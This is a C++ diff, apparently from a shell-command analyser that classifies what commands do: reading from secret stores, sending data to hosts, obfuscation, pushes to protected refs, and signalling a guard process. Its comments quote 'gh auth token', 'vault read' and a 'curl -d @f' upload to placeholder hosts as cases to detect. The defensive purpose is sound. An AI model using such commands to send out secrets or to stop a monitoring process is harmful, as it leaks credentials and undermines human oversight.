-  // Who signals what `pgrep pawl` printed, signals Pawl.
-  [[nodiscard]] bool signals_guard() const {
-    return std::any_of(arguments_.operands.begin(), arguments_.operands.end(), [&](const Argument& operand) {
-      if (operand.word->step < 0) return false;
-      const std::vector<Word>& argv = context_.out.steps[static_cast<std::size_t>(operand.word->step)].argv;
-      return std::any_of(argv.begin() + 1, argv.end(),
-                         [](const Word& word) { return word.text.find("pawl") != std::string::npos; });
-    });
-  }
-
-  // `make test`, `npm run build`: the command, and what it is told to run.
-  [[nodiscard]] std::string what_is_run(std::string operands) const {
-    return operands.empty() ? arguments_.name : arguments_.name + " " + std::move(operands);
-  }
-
-  void say_effects() {
-    std::uint16_t carried = what_is_carried(sent_);
-    // Worth a look only where something goes out that should not go astray.
-    if ((carried & carries_secret) != 0 && leads_elsewhere()) carried |= is_redirected;
-    bool said_connect = false;
-    for (const EffectFact& item : arguments_.effects) {
-      std::uint16_t extra = item.attributes;
-      // A store that is asked for what it holds: `vault read`, `gh auth token`.
-      if (item.kind == EffectKind::read && (item.attributes & is_shown) != 0) {
-        add_effect(item.kind, item.action, joined(arguments_.operands, arguments_.command_words), extra, context_);
-        context_.out.effects.back().classes = path_secret;
-        continue;
-      }
-      if (item.kind == EffectKind::read) continue;  // of the folder that it serves
-      if (add_to_paths(item)) continue;
-      if (item.kind == EffectKind::write &&
-          item.action == Action::none) {  // names no path: it fills the folder that it works in
-        Word folder;
-        folder.text = ".";
-        if (context_.cwd.empty()) folder.kind = Word::Kind::unknown;
-        add_path_effect(item.kind, item.action, folder, folder.text, extra, sources_, context_);
-        continue;
-      }
-      std::string object = joined(arguments_.operands, arguments_.command_words);
-      if (item.kind == EffectKind::process && signals_guard())
-        add_effect(EffectKind::system, Action::guard, object, 0, context_);
-      if (item.kind == EffectKind::execute && item.action == Action::local) object = what_is_run(std::move(object));
-      if (item.kind == EffectKind::connect) {
-        said_connect = true;
-        say_connects(item.action, static_cast<std::uint16_t>(extra | carried));
-        continue;
-      }
-      if (item.kind == EffectKind::history) {
-        if (item.action == Action::discard) say_discarded_settings();
-        if (item.action == Action::discard && discards_nothing()) continue;
-        object = refs_;
-        if (item.action == Action::push || item.action == Action::force_push)
-          extra |= what_is_carried(context_.scope.staged);
-        if (has_protected_ref_ || !has_ref_) extra |= is_protected_ref;
-      }
-      add_effect(item.kind, item.action, std::move(object), extra, context_);
-    }
-    if (!hosts_.empty() && !said_connect) say_connects(Action::download, carried);
-  }
-
-  // Each host gets all that goes out: `curl -d @f https://a https://b`.
-  void say_connects(Action action, std::uint16_t attributes) {
-    if (has_encoded_name_) attributes |= is_obfuscated;
-    if (sends_file_) attributes |= carries_file;
-    for (const std::string& host : hosts_) add_effect(EffectKind::connect, action, host, attributes, context_);
-    if (hosts_.empty()) add_effect(EffectKind::connect, action, "", attributes, context_);
-  }
-
-  [[nodiscard]] bool leads_elsewhere() const {
-    if (is_redirected_ || (arguments_.marks & fact_.redirected) != 0) return true;
-    if (context_.step < 0) return false;
-    return may_lead_elsewhere(context_.out.steps[static_cast<std::size_t>(context_.step)].argv, context_.scope);
-  }
-
-  const Arguments& arguments_;
-  const ProgramFact& fact_;
-  StepContext& context_;
-  std::vector<const Argument*> all_;
-  std::uint16_t attributes_ = 0;
-  std::uint8_t sources_;  // of what it prints and writes
-  std::uint8_t sent_;     // of what goes to the network
-  std::size_t first_effect_;
-  std::string start_;               // the folder before any flag names another one
-  std::vector<std::string> hosts_;  // that it speaks to
-  std::string refs_;
-  bool is_redirected_ = false;
-  bool has_encoded_name_ = false;
-  bool sends_file_ = false;
-  bool has_ref_ = false;
-  bool has_protected_ref_ = false;
-  bool has_mode_ = false;
-  bool is_world_writable_ = false;
-  bool gives_rights_ = false;
-};
-
-}  // namespace
+bool StepReader::serves_folder() const {
+  return std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
+                     [](const EffectFact& e) { return e.kind == EffectKind::read && e.attributes == 0; });
+}
 
 bool is_kept_secret(std::uint32_t classes) {
   return (classes & path_secret) != 0 && (classes & (path_credential_store | path_system)) != 0;
